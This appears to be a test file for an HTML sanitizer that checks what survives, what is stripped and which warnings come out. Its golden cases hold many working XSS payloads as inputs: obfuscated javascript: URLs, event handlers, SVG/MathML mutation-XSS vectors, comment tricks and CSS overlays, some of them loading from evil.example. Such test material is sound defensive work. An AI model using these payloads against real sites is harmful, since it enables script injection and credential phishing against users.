// The one HTML sanitizer configuration: golden outputs for every HTML family of security.md "Untrusted content",
// what survives, the warnings an agent reads, the nesting limit, idempotence over generated input, and htmlToText.
import { describe, expect, it } from "@effect/vitest"
import { HTML_NESTING_LIMIT, htmlToText, sanitizeHtml } from "../src/Content/HtmlSanitizer.ts"

const REL = `rel="noopener noreferrer nofollow ugc"`

const ALLOWED_TAGS = new Set([
  "h1",
  "h2",
  "h3",
  "h4",
  "h5",
  "h6",
  "p",
  "div",
  "span",
  "section",
  "article",
  "header",
  "footer",
  "nav",
  "aside",
  "main",
  "blockquote",
  "pre",
  "code",
  "hr",
  "br",
  "ul",
  "ol",
  "li",
  "dl",
  "dt",
  "dd",
  "figure",
  "figcaption",
  "details",
  "summary",
  "sup",
  "sub",
  "em",
  "strong",
  "b",
  "i",
  "u",
  "s",
  "del",
  "ins",
  "mark",
  "small",
  "abbr",
  "cite",
  "q",
  "kbd",
  "samp",
  "var",
  "time",
  "table",
  "thead",
  "tbody",
  "tfoot",
  "tr",
  "th",
  "td",
  "caption",
  "colgroup",
  "col",
  "a",
  "img",
  "style",
  "input"
])

// Ids only as in-page anchors: what mdast-util-to-hast writes for footnotes (DOM clobbering).
const ANCHOR_ID = /^(?:user-content-[\p{L}\p{N}\-._~!$&'()*+,;=:@/?%]{1,128}|footnote-label)$/u

const decode = (value: string) =>
  value.replace(/&quot;/g, "\"").replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&amp;/g, "&")

/**
 * Everything that could execute or navigate, checked on the output independently of the implementation. The
 * output grammar is narrow (sanitize-html always writes `name="value"` with `&`, `<`, `>` and `"` escaped), so a
 * strict tokenizer suffices: anything it cannot read is itself a failure.
 */
const unsafeParts = (html: string): Array<string> => {
  const problems: Array<string> = []
  // A <style> holds CSS, checked as CSS; nothing in it may look like markup.
  html = html.replace(/<style>([^<]*)<\/style>/g, (_whole, css: string) => {
    problems.push(...unsafeCss(css))
    return ""
  })
  const tag = /<(\/?)([a-z0-9]+)((?: [a-z-]+(?:="[^"]*")?)*)( \/)?>/g
  const text = html.replace(tag, (_whole, _close: string, name: string, attributes: string) => {
    if (!ALLOWED_TAGS.has(name)) problems.push(`element <${name}>`)
    // A disabled checkbox is the one form control: exactly these attributes, in any order.
    if (name === "input") {
      const names = [...attributes.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)].map(([, attribute]) => attribute).sort()
      const expected = attributes.includes(" checked") ? ["checked", "disabled", "type"] : ["disabled", "type"]
      if (!attributes.includes(` type="checkbox"`) || names.join() !== expected.join()) {
        problems.push(`input ${attributes}`)
      }
    }
    for (const [, attribute, raw] of attributes.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
      const value = decode(raw ?? "")
      if (
        /^on/.test(attribute!) ||
        ["srcdoc", "formaction", "action", "srcset", "form", "name"].includes(attribute!)
      ) {
        problems.push(`attribute ${attribute}`)
      }
      if (attribute === "style") problems.push(...unsafeCss(value))
      if (attribute === "id" && !ANCHOR_ID.test(value)) problems.push(`id ${value}`)
      if (["href", "src", "cite"].includes(attribute!)) {
        const url = value.replace(/^[\u0000-\u0020]+/, "").replace(/[\t\n\r]/g, "")
        const scheme = /^([^/?#]*?):/.exec(url)?.[1]?.toLowerCase()
        const ok = scheme === undefined || ["http", "https", "mailto"].includes(scheme) ||
          (name === "img" && /^data:image\/(?:png|jpeg|gif|webp)[;,]/i.test(url))
        if (!ok || (name === "img" && scheme === "mailto")) problems.push(`URL ${value}`)
        if (/[<>\n\r]/.test(value)) problems.push(`dangling URL ${value}`)
      }
    }
    if (name === "a" && _close === "" && !attributes.includes(` ${REL}`)) problems.push("link without rel")
    return ""
  })
  if (/[<>]/.test(text)) problems.push(`unreadable markup in ${JSON.stringify(text.slice(0, 80))}`)
  return problems
}

/**
 * What in CSS could load, run or bind anything, or cover the window, checked independently of the implementation:
 * no escapes (so what is read here is what a browser reads), no comments, no `url()` but data: raster images and
 * fragments, no `@import` or other at-rule outside the allowed ones, no other function that loads (image-set,
 * element, paint, src, expression), no behaviour or binding, no fixed position.
 */
const unsafeCss = (css: string): Array<string> => {
  const problems: Array<string> = []
  if (/[\\<]|\/\*/.test(css)) problems.push(`escape, comment or markup in CSS ${css.slice(0, 80)}`)
  for (const [, target] of css.matchAll(/url\(\s*["']?([^"')\s]*)/gi)) {
    if (!/^(?:data:image\/(?:png|jpeg|gif|webp)[;,]|#)/i.test(target!)) problems.push(`url(${target})`)
  }
  for (const [, name] of css.matchAll(/@([-\w]+)/g)) {
    if (!["media", "supports", "container", "layer", "keyframes", "-webkit-keyframes", "font-face"].includes(name!)) {
      problems.push(`@${name}`)
    }
  }
  for (const [, name] of css.matchAll(/([-\w]+)\(/g)) {
    if (/^(?:expression|image-set|-webkit-image-set|image|element|paint|src|cross-fade)$/i.test(name!)) {
      problems.push(`${name}()`)
    }
  }
  if (/(?:behavior|binding)\s*:/i.test(css)) problems.push("behavior or binding")
  if (/position\s*:\s*(?!static|relative|absolute|sticky|inherit|initial|unset|revert)/i.test(css)) {
    problems.push("position other than a keyword that stays in the page")
  }
  if (/(?:java|vb)script:/i.test(css)) problems.push("script URL")
  return problems
}

/** Sanitizes, and checks on the way that the output is safe and stable. */
const clean = (input: string) => {
  const result = sanitizeHtml(input)
  expect(unsafeParts(result.html)).toEqual([])
  const again = sanitizeHtml(result.html)
  expect(again.html).toBe(result.html)
  expect(again.warnings).toEqual([])
  return result
}

type Golden = readonly [name: string, input: string, html: string, warnings: ReadonlyArray<string>]

const golden = (family: string, cases: ReadonlyArray<Golden>) =>
  describe(family, () => {
    for (const [name, input, html, warnings] of cases) {
      it(name, () => {
        const result = clean(input)
        expect(result.html).toBe(html)
        expect(result.warnings).toEqual(warnings)
      })
    }
  })

describe("sanitizeHtml keeps what is allowed", () => {
  it("structure, text semantics, lists, tables, links and images survive unchanged but for rel", () => {
    const input = [
      `<article id="user-content-intro" class="note wide"><header><h1>Title</h1>`,
      `<nav><a href="#part-2">skip</a></nav></header>`,
      `<section><h2 lang="en-GB" dir="ltr">Part</h2><p>Some <em>em</em>, <strong>strong</strong>, <b>b</b>, <i>i</i>, `,
      `<u>u</u>, <s>s</s>, <del cite="https://e.example/why" datetime="2024-01-01">del</del>, <ins>ins</ins>, `,
      `<mark>mark</mark>, <small>small</small>, <abbr title="HyperText Markup Language">HTML</abbr>, `,
      `<cite>cite</cite>, <q cite="https://e.example/q">q</q>, <kbd>kbd</kbd>, <samp>samp</samp>, <var>var</var>, `,
      `<time datetime="2024-05-06">May 6</time>, x<sup>2</sup>, H<sub>2</sub>O &amp; &lt;tags&gt;.</p>`,
      `<blockquote><p>Quoted</p></blockquote><pre><code class="language-ts">const a = 1 &lt; 2</code></pre><hr>`,
      `<ul><li>one</li><li>two<br>lines</li></ul><ol start="3" reversed><li value="7">seven</li></ol>`,
      `<dl><dt>term</dt><dd>definition</dd></dl>`,
      `<figure><img src="https://img.example/a.png" alt="A" title="t" width="640" height="480">`,
      `<figcaption>Caption</figcaption></figure><details open><summary>More</summary><div><span>hidden</span></div>`,
      `</details></section><aside>aside</aside><main>main</main><footer>footer</footer></article>`
    ].join("")
    const result = clean(input)
    expect(result.warnings).toEqual([])
    expect(result.html).toBe(
      input
        .replace(`<a href="#part-2">`, `<a href="#user-content-part-2" ${REL}>`)
        .replace("<hr>", "<hr />")
        .replace("<br>", "<br />")
        .replace(`height="480">`, `height="480" />`)
    )
  })

  it("tables keep their sections, spans, scope and GFM alignment", () => {
    const input = `<table><caption>Totals</caption><colgroup><col span="2"></colgroup><thead><tr>` +
      `<th scope="col" align="left">Item</th><th scope="col" align="right">Qty</th></tr></thead><tbody><tr>` +
      `<td colspan="2" rowspan="1" align="center">x</td></tr></tbody><tfoot><tr><td>a</td><td>b</td></tr></tfoot></table>`
    const result = clean(input)
    expect(result.html).toBe(input.replace(`<col span="2">`, `<col span="2" />`))
    expect(result.warnings).toEqual([])
  })

  it("links to http, https, mailto, relative paths and fragments keep their href (a fragment gets the id prefix) and get the forced rel", () => {
    const result = clean(
      `<a href="https://e.example/?a=1&amp;b=2" rel="opener">1</a><a href="http://e.example">2</a>` +
        `<a href="mailto:someone@e.example">3</a><a href="/docs/x">4</a><a href="#top">5</a><a href="../up">6</a>` +
        `<a href="//cdn.e.example/x">7</a><a>8</a>`
    )
    expect(result.html).toBe(
      `<a href="https://e.example/?a=1&amp;b=2" ${REL}>1</a><a href="http://e.example" ${REL}>2</a>` +
        `<a href="mailto:someone@e.example" ${REL}>3</a><a href="/docs/x" ${REL}>4</a><a href="#user-content-top" ${REL}>5</a>` +
        `<a href="../up" ${REL}>6</a><a href="//cdn.e.example/x" ${REL}>7</a><a ${REL}>8</a>`
    )
    expect(result.warnings).toEqual([])
  })

  it("images may be http, https or data:image/png, jpeg, gif or webp", () => {
    const images = [
      "https://img.example/a.jpg",
      "http://img.example/a.gif",
      "data:image/png;base64,iVBORw0KGgo=",
      "data:image/jpeg;base64,/9j/4AAQ",
      "DATA:IMAGE/GIF;base64,R0lGODlh",
      "data:image/webp,UklGRg",
      "/relative.png"
    ]
    const result = clean(images.map((src) => `<img src="${src}" alt="">`).join(""))
    expect(result.html).toBe(images.map((src) => `<img src="${src}" alt="" />`).join(""))
    expect(result.warnings).toEqual([])
  })

  it("text is escaped and entities are normalised", () => {
    const result = clean(`<p>a &lt;script&gt; b &amp;amp; &quot;q&quot; &#x3C;img&#x3E; &nbsp; 5 > 3 & ok</p>`)
    expect(result.html).toBe(`<p>a &lt;script&gt; b &amp;amp; "q" &lt;img&gt; \u00a0 5 &gt; 3 &amp; ok</p>`)
  })

  it("ids and classes are kept when they are plain names, per token for classes", () => {
    const result = clean(
      `<h2 id="user-content-fn-1" class="a b-c Ünï_1 x\\3c a:b &lt;i&gt;">t</h2><p id="a b">x</p><p id="x:y">y</p>`
    )
    expect(result.html).toBe(
      `<h2 id="user-content-fn-1" class="a b-c Ünï_1">t</h2><p>x</p><p id="user-content-x:y">y</p>`
    )
    expect(result.warnings).toEqual([
      "removed class names with characters other than letters, digits, - and _",
      "removed id attribute from <p> (ids are letters, digits and URL fragment characters, at most 128)"
    ])
  })

  it("ids are kept as in-page anchors: user-content-… and footnote-label as they are, other names prefixed with user-content-", () => {
    const kept = [
      "footnote-label",
      "user-content-fn-1",
      "user-content-fnref-1-2",
      "user-content-fn-%C3%A9",
      "user-content-fn-1.2",
      "user-content-fn-x:y",
      "user-content-fn-a'b",
      "user-content-fn-é"
    ]
    const result = clean(kept.map((id) => `<p id="${id}">x</p>`).join(""))
    expect(result.html).toBe(kept.map((id) => `<p id="${id}">x</p>`).join(""))
    expect(result.warnings).toEqual([])

    // A page's own ids (and the links to them) get the prefix: no element is named like a global (DOM clobbering).
    const prefixed = ["intro", "login", "forms", "footnote-label-2", "x-user-content-y", "Setup_2"]
    const anchors = clean(prefixed.map((id) => `<h2 id='${id}'>x</h2><a href="#${id}">to</a>`).join(""))
    expect(anchors.html).toBe(
      prefixed.map((id) => `<h2 id="user-content-${id}">x</h2><a href="#user-content-${id}" ${REL}>to</a>`).join("")
    )
    expect(anchors.warnings).toEqual([])

    const dropped = [
      "user-content-",
      "user-content-a b",
      "a b",
      "user-content-<x>",
      `user-content-"x`,
      "User-Content-x",
      `user-content-${"a".repeat(129)}`,
      "a".repeat(129)
    ]
    const stripped = clean(dropped.map((id) => `<div id='${id}'>x</div>`).join(""))
    expect(stripped.html).toBe(`<div>x</div>`.repeat(dropped.length))
    expect(stripped.warnings).toEqual([
      "removed id attribute from <div> (ids are letters, digits and URL fragment characters, at most 128)"
    ])
  })

  it("GFM footnote markup keeps its data-footnote, aria and fragment-link attributes", () => {
    const input = `<p>a<sup><a href="#user-content-fn-1" id="user-content-fnref-1" data-footnote-ref ` +
      `aria-describedby="footnote-label">1</a></sup></p><section data-footnotes class="footnotes">` +
      `<h2 class="sr-only" id="footnote-label">Footnotes</h2><ol><li id="user-content-fn-1"><p>n ` +
      `<a href="#user-content-fnref-1" data-footnote-backref="" aria-label="Back to reference 1" ` +
      `class="data-footnote-backref">↩</a></p></li></ol></section>`
    const result = clean(input)
    expect(result.html).toBe(
      input
        .replace(`aria-describedby="footnote-label">`, `aria-describedby="footnote-label" ${REL}>`)
        .replace(`data-footnote-backref=""`, `data-footnote-backref`)
        .replace(`class="data-footnote-backref">`, `class="data-footnote-backref" ${REL}>`)
    )
    expect(result.warnings).toEqual([])
  })

  it("footnote attributes with values, elsewhere, or pointing at other ids are removed", () => {
    const result = clean(
      `<a href="#x" data-footnote-ref="1" data-footnote-backref="javascript:1" aria-describedby="login">a</a>` +
        `<p data-footnote-ref aria-label="x" data-footnotes>b</p><section data-footnotes="yes" data-x>c</section>` +
        `<a aria-label="${"x".repeat(257)}">d</a>`
    )
    expect(result.html).toBe(`<a href="#user-content-x" ${REL}>a</a><p>b</p><section>c</section><a ${REL}>d</a>`)
    expect(result.warnings).toEqual([
      "removed invalid data-footnote-ref attribute from <a>",
      "removed invalid data-footnote-backref attribute from <a>",
      "removed invalid aria-describedby attribute from <a>",
      "removed attribute data-footnote-ref from <p>",
      "removed attribute aria-label from <p>",
      "removed attribute data-footnotes from <p>",
      "removed invalid data-footnotes attribute from <section>",
      "removed attribute data-x from <section>",
      "removed invalid aria-label attribute from <a>"
    ])
  })
})

golden("event handlers in every casing and separator", [
  ["mixed case", `<img src=x OnError=alert(1)>`, `<img src="x" />`, ["removed event handler attribute onerror"]],
  ["upper case", `<IMG SRC=x ONERROR=alert(1)>`, `<img src="x" />`, ["removed event handler attribute onerror"]],
  [
    "tab, newline, form feed and slash separators",
    `<img\tsrc=x\nonerror\t=\nalert(1)><img src=x\fonload=1><p/onclick=1>t</p>`,
    `<img src="x" /><img src="x" /><p>t</p>`,
    [
      "removed event handler attribute onerror",
      "removed event handler attribute onload",
      "removed event handler attribute onclick"
    ]
  ],
  [
    "a slash inside an unquoted value stays part of the value",
    `<img/src=x/onerror=alert(1)>`,
    `<img src="x/onerror=alert(1)" />`,
    []
  ],
  [
    "quoted, single-quoted and backtick values, and duplicates",
    `<p onmouseover="a()" ONFOCUS='b()' onblur=\`c()\` onclick=1 onclick=2>t</p>`,
    `<p>t</p>`,
    [
      "removed event handler attribute onmouseover",
      "removed event handler attribute onfocus",
      "removed event handler attribute onblur",
      "removed event handler attribute onclick"
    ]
  ],
  ["svg onload", `<svg/onload=alert(1)>`, ``, [
    "removed <svg> element and its content",
    "removed event handler attribute onload"
  ]],
  ["body onload", `<body onload=alert(1)><p>x</p></body>`, `<p>x</p>`, ["removed event handler attribute onload"]],
  [
    "ontoggle on details, onclick on a link",
    `<details open ontoggle=alert(1)><summary>s</summary></details><a href="#" onclick="alert(1)">l</a>`,
    `<details open><summary>s</summary></details><a href="#" ${REL}>l</a>`,
    ["removed event handler attribute ontoggle", "removed event handler attribute onclick"]
  ],
  [
    "on* on an unknown element",
    `<x-widget onpointerenter=alert(1)>text</x-widget>`,
    `text`,
    ["removed <x-widget> element (its content was kept)", "removed event handler attribute onpointerenter"]
  ]
])

golden("javascript:, data: and vbscript: URLs with entities, controls, tabs and comments", [
  ["plain", `<a href="javascript:alert(1)">x</a>`, `<a ${REL}>x</a>`, ["removed javascript: URL from href"]],
  ["mixed case, leading space", `<a href="  JaVaScRiPt:alert(1)">x</a>`, `<a ${REL}>x</a>`, [
    "removed javascript: URL from href"
  ]],
  ["decimal entity", `<a href="&#106;avascript:alert(1)">x</a>`, `<a ${REL}>x</a>`, [
    "removed javascript: URL from href"
  ]],
  ["entities without semicolons", `<a href="&#106&#97&#118&#97script:alert(1)">x</a>`, `<a ${REL}>x</a>`, [
    "removed javascript: URL from href"
  ]],
  ["hex entities", `<a href="&#x6A;&#x61;&#x76;&#x61;script&#x3A;alert(1)">x</a>`, `<a ${REL}>x</a>`, [
    "removed javascript: URL from href"
  ]],
  ["named entity for the colon", `<a href="javascript&colon;alert(1)">x</a>`, `<a ${REL}>x</a>`, [
    "removed javascript: URL from href"
  ]],
  ["tab entity inside the scheme", `<a href="jav&#x09;ascript:alert(1)">x</a>`, `<a ${REL}>x</a>`, [
    "removed javascript: URL from href"
  ]],
  ["&Tab; and &NewLine; inside the scheme", `<a href="java&Tab;scr&NewLine;ipt:alert(1)">x</a>`, `<a ${REL}>x</a>`, [
    "removed javascript: URL from href"
  ]],
  ["raw tab and newline inside the scheme", `<a href="java\tscr\nipt:alert(1)">x</a>`, `<a ${REL}>x</a>`, [
    "removed javascript: URL from href"
  ]],
  ["leading control character", `<a href="&#1;javascript:alert(1)">x</a>`, `<a ${REL}>x</a>`, [
    "removed javascript: URL from href"
  ]],
  [
    "NUL inside the scheme",
    `<a href="java\0script:alert(1)">x</a><a href="java&#0;script:alert(1)">y</a>`,
    `<a ${REL}>x</a><a ${REL}>y</a>`,
    ["removed URL with a malformed scheme from href"]
  ],
  ["a comment is no comment inside an attribute", `<a href="java<!-- -->script:alert(1)">x</a>`, `<a ${REL}>x</a>`, [
    "removed URL with a malformed scheme from href"
  ]],
  ["comment splitting the tag", `<a href="javascript<!-- -->:alert(1)">x</a>`, `<a ${REL}>x</a>`, [
    "removed URL with a malformed scheme from href"
  ]],
  ["vbscript", `<a href=vbscript:msgbox(1)>x</a>`, `<a ${REL}>x</a>`, ["removed vbscript: URL from href"]],
  ["data:text/html link", `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a ${REL}>x</a>`, [
    "removed data: URL from href"
  ]],
  ["data:image link (images only in img)", `<a href="data:image/png;base64,AA">x</a>`, `<a ${REL}>x</a>`, [
    "removed data: URL from href"
  ]],
  ["javascript image", `<img src="javascript:alert(1)">`, `<img />`, ["removed javascript: URL from src"]],
  ["data:text/html image", `<img src="data:text/html,<script>alert(1)</script>">`, `<img />`, [
    "removed data: URL that is not a PNG, JPEG, GIF or WebP image from src"
  ]],
  ["data:image/svg+xml image", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<img />`, [
    "removed data: URL that is not a PNG, JPEG, GIF or WebP image from src"
  ]],
  ["mailto image", `<img src="mailto:a@b.c">`, `<img />`, ["removed mailto: URL from src"]],
  [
    "cite is a URL attribute too",
    `<blockquote cite="javascript:alert(1)">q</blockquote>`,
    `<blockquote>q</blockquote>`,
    ["removed javascript: URL from cite"]
  ],
  [
    "other schemes",
    `<a href="file:///etc/passwd">1</a><a href="ftp://x">2</a><a href="tel:1">3</a>`,
    `<a ${REL}>1</a><a ${REL}>2</a><a ${REL}>3</a>`,
    ["removed file: URL from href", "removed ftp: URL from href", "removed tel: URL from href"]
  ],
  ["full-width letters make a malformed scheme", `<a href="ｊavascript:alert(1)">x</a>`, `<a ${REL}>x</a>`, [
    "removed URL with a malformed scheme from href"
  ]]
])

golden("SVG and MathML namespace confusion", [
  ["math, mtext, table, mglyph, style", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, ``, [
    "removed <math> element and its content"
  ]],
  ["svg, p, style", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, ``, [
    "removed <svg> element and its content"
  ]],
  [
    "math, mi, mglyph, svg, mtext, textarea",
    `<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=alert(1)>">`,
    ``,
    ["removed <math> element and its content"]
  ],
  [
    "form, math, mtext: content after the foreign element is sanitized normally",
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
    `<img />`,
    [
      "removed <form> element (its content was kept)",
      "removed <math> element and its content",
      "removed event handler attribute onerror"
    ]
  ],
  [
    "svg foreignObject",
    `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg><p>ok</p>`,
    `<p>ok</p>`,
    ["removed <svg> element and its content"]
  ],
  [
    "svg animate retargeting href",
    `<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>`,
    ``,
    ["removed <svg> element and its content"]
  ],
  ["svg use with data URL", `<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"/></svg>`, ``, [
    "removed <svg> element and its content"
  ]]
])

golden("mutation XSS through raw-text elements: content is discarded, never turned into text", [
  ["noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>after</p>`, `<p>after</p>`, [
    "removed <noscript> element and its content"
  ]],
  ["xmp", `<xmp><img src=x onerror=alert(1)></xmp>`, ``, ["removed <xmp> element and its content"]],
  ["textarea", `<textarea><img src=x onerror=alert(1)></textarea>`, ``, ["removed <textarea> element and its content"]],
  ["textarea solidus mis-close", `<textarea></textarea/><img src=x onerror=alert(1)>`, `<img src="x" />`, [
    "removed <textarea> element and its content",
    "removed event handler attribute onerror"
  ]],
  ["title", `<title><img src=x onerror=alert(1)></title>`, ``, ["removed <title> element and its content"]],
  ["noembed", `<noembed><img src=x onerror=alert(1)></noembed>`, ``, ["removed <noembed> element and its content"]],
  ["noframes", `<noframes><img src=x onerror=alert(1)></noframes>`, ``, ["removed <noframes> element and its content"]],
  ["style", `<style><img src=x onerror=alert(1)></style>`, ``, [
    "removed a <style> element whose CSS could not be parsed"
  ]],
  ["script", `<script>alert(1)</script><script src=//evil.example/x.js></script>`, ``, [
    "removed <script> element and its content"
  ]],
  ["iframe fallback", `<iframe src=javascript:alert(1)>fallback <b>x</b></iframe>`, ``, [
    "removed <iframe> element and its content"
  ]],
  ["plaintext swallows the rest", `<p>a</p><plaintext><p>b</p>`, `<p>a</p>`, [
    "removed <plaintext> element and its content"
  ]],
  ["template", `<template><img src=x onerror=alert(1)></template>`, ``, ["removed <template> element and its content"]],
  ["select and option", `<select><option><img src=x onerror=alert(1)></option></select>`, ``, [
    "removed <select> element and its content"
  ]],
  [
    "entity-encoded markup inside a dropped element stays dropped",
    `<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>`,
    ``,
    ["removed <option> element and its content"]
  ],
  [
    "nested raw-text inside noscript",
    `<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>`,
    ``,
    [
      "removed <noscript> element and its content"
    ]
  ]
])

golden("comment, CDATA and processing-instruction tricks", [
  ["abrupt comment close", `<!--><img src=x onerror=alert(1)>-->`, `<img src="x" />--&gt;`, [
    "removed comment",
    "removed event handler attribute onerror"
  ]],
  ["comment hiding an attribute", `<!--<img src="--><img src=x onerror=alert(1)//">`, `<img src="x" />`, [
    "removed comment",
    "removed event handler attribute onerror"
  ]],
  ["--!> close", `<!-- a --!><img src=x onerror=alert(1)>`, `<img src="x" />`, [
    "removed comment",
    "removed event handler attribute onerror"
  ]],
  ["conditional comment", `<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p>`, `<p>x</p>`, ["removed comment"]],
  ["CDATA in HTML is a comment", `<p>a<![CDATA[</p><script>alert(1)</script>]]>b</p>`, `<p>ab</p>`, [
    "removed CDATA section"
  ]],
  ["processing instruction", `<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>`, `<p>x</p>`, [
    "removed processing instruction"
  ]],
  ["bogus comment from a broken end tag", `</ img src=x onerror=alert(1)><p>x</p>`, `<p>x</p>`, ["removed comment"]],
  [
    "doctype and document wrappers go silently",
    `<!DOCTYPE html><html><head><meta charset=utf-8><title>T</title></head>` +
    `<body><p>Body</p></body></html>`,
    `<p>Body</p>`,
    [
      "removed <meta> element",
      "removed <title> element and its content"
    ]
  ]
])

golden("<base>, meta refresh and <link>", [
  ["base", `<base href="javascript:alert(1)//"><a href="/x">x</a>`, `<a href="/x" ${REL}>x</a>`, [
    "removed <base> element"
  ]],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>x</p>`, `<p>x</p>`, [
    "removed <meta> element"
  ]],
  ["link", `<link rel=stylesheet href=//evil.example/x.css><link rel=import href=x><p>x</p>`, `<p>x</p>`, [
    "removed <link> element"
  ]]
])

golden("srcdoc, object and embed", [
  ["iframe srcdoc", `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`, ``, [
    "removed <iframe> element and its content"
  ]],
  ["srcdoc on an allowed element", `<div srcdoc="<script>alert(1)</script>">x</div>`, `<div>x</div>`, [
    "removed attribute srcdoc from <div>"
  ]],
  ["object", `<object data="javascript:alert(1)"><param name=x value=y>fallback</object>`, ``, [
    "removed <object> element and its content"
  ]],
  ["embed", `<embed src="data:text/html,<script>alert(1)</script>"><p>x</p>`, `<p>x</p>`, [
    "removed <embed> element and its content"
  ]],
  ["applet", `<applet code=X>fallback</applet>`, ``, ["removed <applet> element and its content"]]
])

golden("forms and formaction", [
  [
    "form, input and button; the button label stays as text",
    `<form action="javascript:alert(1)"><input name=q formaction=javascript:alert(1)>` +
    `<button formaction="javascript:alert(1)">Go</button></form>`,
    `Go`,
    [
      "removed <form> element (its content was kept)",
      "removed <input> element (only disabled checkboxes, as in task lists, are kept)",
      "removed <button> element (its content was kept)"
    ]
  ],
  [
    "formaction on an allowed element",
    `<a href="/x" formaction="javascript:alert(1)">x</a>`,
    `<a href="/x" ${REL}>x</a>`,
    [
      "removed attribute formaction from <a>"
    ]
  ],
  [
    "GFM task list checkboxes (disabled) are kept",
    `<ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" checked disabled> done</li>` +
    `<li class="task-list-item"><input type="checkbox" disabled> todo</li></ul>`,
    `<ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" checked disabled /> done</li>` +
    `<li class="task-list-item"><input type="checkbox" disabled /> todo</li></ul>`,
    []
  ],
  [
    "a checkbox keeps type, checked and disabled only, as booleans; form, formaction, name, value, id go",
    `<form id=f action=javascript:1></form><input TYPE=CheckBox checked=checked disabled=false form=f ` +
    `formaction=javascript:alert(1) name=n value=v id=user-content-x class=c onclick=alert(1) autofocus>`,
    `<input type="checkbox" checked disabled />`,
    [
      "removed <form> element (its content was kept)",
      "removed attribute form from <input>",
      "removed attribute formaction from <input>",
      "removed attribute name from <input>",
      "removed attribute value from <input>",
      "removed attribute id from <input>",
      "removed attribute class from <input>",
      "removed event handler attribute onclick",
      "removed attribute autofocus from <input>"
    ]
  ],
  [
    "every other input goes: not a checkbox, not disabled, or a type a browser would not read as checkbox",
    `<input type=text value=x><input type=hidden name=csrf><input type=submit formaction=javascript:1>` +
    `<input type=image src=javascript:1><input type=file><input type=password><input disabled>` +
    `<input type=checkbox><input type=checkbox checked onclick=alert(1)><input type=" checkbox" disabled>` +
    `<input type=radio disabled><input type=text type=checkbox disabled><p>after</p>`,
    `<p>after</p>`,
    [
      "removed <input> element (only disabled checkboxes, as in task lists, are kept)",
      "removed event handler attribute onclick"
    ]
  ],
  [
    "an input inside a discarded control ends it, as in a browser, and the rest is sanitized normally",
    `<select><option>a<input type=checkbox disabled>b<img src=x onerror=alert(1)></select>c`,
    `<input type="checkbox" disabled />b<img src="x" />c`,
    ["removed <select> element and its content", "removed event handler attribute onerror"]
  ]
])

golden("CSS url(), expression() and overlays", [
  ["url() in style", `<div style="background:url(javascript:alert(1))">a</div>`, `<div>a</div>`, [
    "removed CSS declaration (background with a script URL)"
  ]],
  ["expression() in style", `<p style="width:expression(alert(1))">b</p>`, `<p>b</p>`, [
    "removed CSS declaration (width with expression())"
  ]],
  [
    "full-page overlay",
    `<div style="position:fixed;inset:0;z-index:2147483647;background:white">Log in</div>`,
    `<div style="inset:0;z-index:2147483647;background:white">Log in</div>`,
    ["removed CSS declaration (position: fixed)"]
  ],
  ["style element with @import", `<style>@import url(//evil.example/x.css);</style><p>x</p>`, `<p>x</p>`, [
    "removed CSS @import rule"
  ]]
])

golden("CSS kept through the CSS sanitizer: <style> elements and style attributes", [
  [
    "a stylesheet is kept, canonically, without its attributes",
    `<style media="print" nonce="x">\nh1 { color: #c00 }\n.note , p > em{margin:0 auto !important; font: 1em/1.5 "Iowan Old Style", serif}\n` +
    `@media (min-width: 40em) { p { columns: 2 } }\n@keyframes fade { from { opacity: 0 } to { opacity: 1 } }</style><h1>T</h1>`,
    `<style>h1{color:#c00;}\n.note , p > em{margin:0 auto!important;font:1em/1.5 "Iowan Old Style", serif;}\n` +
    `@media (min-width: 40em){p{columns:2;}}\n@keyframes fade{from{opacity:0;}to{opacity:1;}}</style><h1>T</h1>`,
    []
  ],
  [
    "style attributes keep their declarations, functions on the list and data: raster images",
    `<p style="color: rgb(10 20 30); background: linear-gradient(red, blue), url('data:image/png;base64,iVBORw0KGgo=')">a</p>`,
    `<p style="color:rgb(10 20 30);background:linear-gradient(red, blue), url('data:image/png;base64,iVBORw0KGgo=')">a</p>`,
    []
  ],
  [
    "in-page fragment references stay",
    `<style>p{filter:url(#soft)}</style>`,
    `<style>p{filter:url(#soft);}</style>`,
    []
  ],
  [
    "url(http://…)",
    `<style>p{background:url(http://evil.example/x.png);color:red}</style>`,
    `<style>p{color:red;}</style>`,
    [
      "removed CSS declaration (background with a url() that is not a data: PNG, JPEG, GIF or WebP image or a #fragment)"
    ]
  ],
  ["protocol-relative and quoted url()", `<p style="background:url('//evil.example/x')">a</p>`, `<p>a</p>`, [
    "removed CSS declaration (background with a url() that is not a data: PNG, JPEG, GIF or WebP image or a #fragment)"
  ]],
  ["url(javascript:…)", `<style>p{background:url(javascript:alert(1))}</style>`, ``, [
    "removed CSS declaration (background with a script URL)"
  ]],
  [
    "data:image/svg+xml (scriptable) is refused",
    `<p style="background:url(data:image/svg+xml;base64,PHN2Zz4=)">a</p>`,
    `<p>a</p>`,
    [
      "removed CSS declaration (background with a url() that is not a data: PNG, JPEG, GIF or WebP image or a #fragment)"
    ]
  ],
  [
    "@import, plain and inside @media",
    `<style>@import "x.css";@media all{@import url(y.css);}p{color:red}</style>`,
    `<style>@media all{}\np{color:red;}</style>`,
    [
      "removed CSS @import rule"
    ]
  ],
  ["expression()", `<style>p{width:expression(alert(1))}</style>`, ``, [
